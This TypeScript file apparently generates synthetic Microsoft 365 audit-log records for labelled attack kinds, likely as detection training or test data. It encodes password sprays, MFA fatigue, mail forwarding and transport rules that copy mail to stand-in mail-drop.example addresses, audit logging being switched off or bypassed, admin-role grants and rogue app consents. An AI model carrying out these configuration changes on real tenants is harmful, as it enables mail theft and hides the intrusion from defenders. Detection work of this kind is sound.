/** Attacks as they leave records: mailboxes, identities, apps, mail flow, auditing. Each is one call with its start time. */
import {
  ADMIN,
  ATTACKER,
  type Attack,
  admin,
  app,
  consent,
  directory,
  MINUTE,
  PEOPLE,
  rule,
  SECOND,
  times,
  VICTIM,
  WRONG_PASSWORD,
} from "./attack-parts.ts"
import { mailAct, signIn, upn } from "./raw-records.ts"

/** Kind → attack. Kinds are the labels. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "password-spray": (at, draw) =>
    times(3).flatMap((round) =>
      PEOPLE.map((user, index) =>
        signIn({
          at: at + round * 9 * MINUTE + index * 20 * SECOND,
          draw,
          user,
          ip: ATTACKER,
          error: WRONG_PASSWORD,
        }),
      ),
    ),
  "slow-spray": (at, draw) =>
    PEOPLE.map((user, index) =>
      signIn({ at: at + index * 4 * MINUTE, draw, user, ip: "203.0.113.70", error: WRONG_PASSWORD }),
    ),
  "spray-from-many-addresses": (at, draw) =>
    PEOPLE.map((user, index) =>
      signIn({
        at: at + index * 30 * SECOND,
        draw,
        user,
        ip: `203.0.113.${100 + index}`,
        error: WRONG_PASSWORD,
      }),
    ),
  "password-guessing": (at, draw) => [
    ...times(25).map((index) =>
      signIn({ at: at + index * 15 * SECOND, draw, user: VICTIM, ip: ATTACKER, error: WRONG_PASSWORD }),
    ),
    signIn({ at: at + 7 * MINUTE, draw, user: VICTIM, ip: ATTACKER }),
  ],
  "mfa-fatigue": (at, draw) =>
    times(14).map((index) =>
      signIn({
        at: at + index * 30 * SECOND,
        draw,
        user: upn("gita"),
        ip: ATTACKER,
        error: { number: "500121", name: "AuthenticationFailedDuringStrongAuthenticationRequest" },
      }),
    ),
  "forward-address": admin("Set-Mailbox", VICTIM, {
    ForwardingSmtpAddress: "smtp:hugo.backup@mail-drop.example",
    DeliverToMailboxAndForward: "False",
  }),
  "forward-keeping-copy": admin("Set-Mailbox", upn("ines"), {
    ForwardingSmtpAddress: "smtp:collector@mail-drop.example",
    DeliverToMailboxAndForward: "True",
  }),
  "rule-forward": rule({ ForwardTo: "smtp:hugo@mail-drop.example", StopProcessingRules: "True" }, "Backup"),
  "rule-redirect": rule({ RedirectTo: "collector@mail-drop.example" }, "r"),
  "rule-delete": rule({ SubjectOrBodyContainsWords: "invoice;payment;bank", DeleteMessage: "True" }, "."),
  "rule-hide": rule({ From: "cfo@fabrikam.example", MoveToFolder: "RSS Feeds", MarkAsRead: "True" }, ",,"),
  "rule-outlook": (at, draw) => [
    mailAct({
      at,
      draw,
      user: VICTIM,
      operation: "UpdateInboxRules",
      owner: VICTIM,
      logonType: 0,
      ip: ATTACKER,
      more: {
        RecordType: 2,
        ClientInfoString: "Client=MSExchangeRPC",
        OperationProperties: [
          { Name: "RuleOperation", Value: "AddMailboxRule" },
          { Name: "RuleId", Value: "-6110000000000000001" },
          { Name: "RuleState", Value: "Enabled" },
          { Name: "RuleName", Value: "sync" },
          {
            Name: "RuleActions",
            Value:
              '[{"ActionType":"Forward","Recipients":["collector@mail-drop.example"],"ForwardFlags":"None"}]',
          },
        ],
      },
    }),
  ],
  "full-access": admin("Add-MailboxPermission", upn("ines"), {
    User: ADMIN,
    AccessRights: "FullAccess",
    AutoMapping: "False",
  }),
  "send-as": admin("Add-RecipientPermission", upn("ines"), { Trustee: upn("bo"), AccessRights: "SendAs" }),
  "folder-for-all": admin("Add-MailboxFolderPermission", `${upn("ines")}:\\Inbox`, {
    User: "Default",
    AccessRights: "Reviewer",
  }),
  "transport-rule": admin("New-TransportRule", "Journal", {
    Name: "Journal",
    BlindCopyTo: "collector@mail-drop.example",
    SubjectOrBodyContainsWords: "password",
  }),
  "audit-off": admin("Set-AdminAuditLogConfig", "Admin Audit Log Settings", {
    UnifiedAuditLogIngestionEnabled: "False",
  }),
  "audit-bypass": admin("Set-MailboxAuditBypassAssociation", ADMIN, { AuditBypassEnabled: "True" }),
  "exchange-role": admin("New-ManagementRoleAssignment", "Import-admin", {
    Role: "Mailbox Import Export",
    User: ADMIN,
  }),
  "role-granted": directory(
    "Add member to role.",
    upn("bo"),
    {
      "Role.ObjectID": ["", "2a3b4c5d-6e7f-4801-9a2b-3c4d5e6f7081"],
      "Role.DisplayName": ["", "Global Administrator"],
      "Role.TemplateId": ["", "62e90394-69f5-4237-9190-012177145e10"],
      "Role.WellKnownObjectName": ["", "TenantAdmins"],
    },
    8,
  ),
  "consent-user": consent(false, "Mail.Read Mail.Send offline_access"),
  "consent-admin": consent(true, "Mail.ReadWrite Files.ReadWrite.All"),
  "app-secret": directory("Update application – Certificates and secrets management ", `Application_${app}`, {
    KeyDescription: [
      "[]",
      '[\r\n  "[KeyIdentifier=0f1e2d3c-4b5a-4968-8776-655443322110,KeyType=Password,KeyUsage=Verify,DisplayName=x]"\r\n]',
    ],
    "Included Updated Properties": ["", "KeyDescription"],
  }),
  "app-permission": directory(
    "Add app role assignment to service principal.",
    "https://graph.microsoft.com",
    {
      "AppRole.Value": ["", "Mail.Read"],
      "AppRole.DisplayName": ["", "Read mail in all mailboxes"],
      "ServicePrincipal.ObjectID": ["", "2e2e2e2e-3333-4444-8555-666666666666"],
      "ServicePrincipal.AppId": ["", app],
    },
  ),
  "app-reads-mail": (at, draw) =>
    times(40).map((index) =>
      mailAct({
        at: at + index * 10 * SECOND,
        draw,
        user: `ServicePrincipal_${app}`,
        operation: "MailItemsAccessed",
        owner: PEOPLE[index % PEOPLE.length] ?? VICTIM,
        logonType: 1,
        ip: ATTACKER,
        more: {
          UserType: 5,
          AppId: app,
          ClientAppId: app,
          ClientInfoString: "Client=REST;Client=RESTSystem;;",
          OperationProperties: [
            { Name: "MailAccessType", Value: "Bind" },
            { Name: "IsThrottled", Value: "False" },
          ],
          OperationCount: 10,
        },
      }),
    ),
  "mailbox-synced": (at, draw) =>
    times(5).map((index) =>
      mailAct({
        at: at + index * MINUTE,
        draw,
        user: VICTIM,
        operation: "MailItemsAccessed",
        owner: VICTIM,
        logonType: 0,
        ip: ATTACKER,
        more: {
          ClientInfoString: "Client=MSExchangeRPC",
          OperationProperties: [
            { Name: "MailAccessType", Value: "Sync" },
            { Name: "IsThrottled", Value: "True" },
          ],
          OperationCount: 200,
        },
      }),
    ),
  "mfa-off": directory("Disable Strong Authentication.", upn("gita"), {
    StrongAuthenticationRequirement: [
      '[\r\n  {\r\n    "RelyingParty": "*",\r\n    "State": 1\r\n  }\r\n]',
      "[]",
    ],
  }),
  "federated-domain": directory("Set domain authentication.", "fabrikam.example", {
    LiveType: ['[\r\n  "Managed"\r\n]', '[\r\n  "Federated"\r\n]'],
  }),
  "search-exported": (at, draw) => [
    {
      CreationTime: new Date(at).toISOString().slice(0, 19),
      Id: draw.guid(),
      Operation: "SearchExported",
      OrganizationId: "6f0d2c84-91b7-4a35-8d0e-5b1c7e92f410",
      RecordType: 24,
      UserKey: ADMIN,
      UserType: 0,
      Version: 1,
      Workload: "SecurityComplianceCenter",
      UserId: ADMIN,
      Case: "",
      ExchangeLocations: "All",
      ObjectId: "everything_Export",
      Query: "",
    },
  ],
  "spray-with-hits": (at, draw) => {
    const tries = { draw, ip: "192.0.2.72", request: "OAuth2:Token" }
    return PEOPLE.map((user, index) => {
      const sprayed = { ...tries, at: at + index * 2 * SECOND, user }
      if (index === 4) return signIn(sprayed)
      const error =
        index === 7 ? { number: "500011", name: "InvalidResourceServicePrincipalNotFound" } : WRONG_PASSWORD
      return signIn({ ...sprayed, error })
    })
  },
  "script-tries-devices": (at, draw) => [
    signIn({
      at,
      draw,
      user: upn("kai"),
      ip: "192.0.2.73",
      agent: "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.26100.1",
      app: "1950a258-227b-4e31-a9cf-717495945fc2",
      request: "OAuth2:Token",
    }),
    ...["Linux", "MacOs", "Android 6", "WindowsPhone"].map((OS, index) =>
      signIn({
        at: at + (index + 2) * 2 * SECOND,
        draw,
        user: upn("kai"),
        ip: "192.0.2.73",
        device: { OS },
      }),
    ),
  ],
  "mailbox-audit-kept-for-a-day": admin("Set-Mailbox", VICTIM, { AuditLogAgeLimit: "1.00:00:00" }),
}
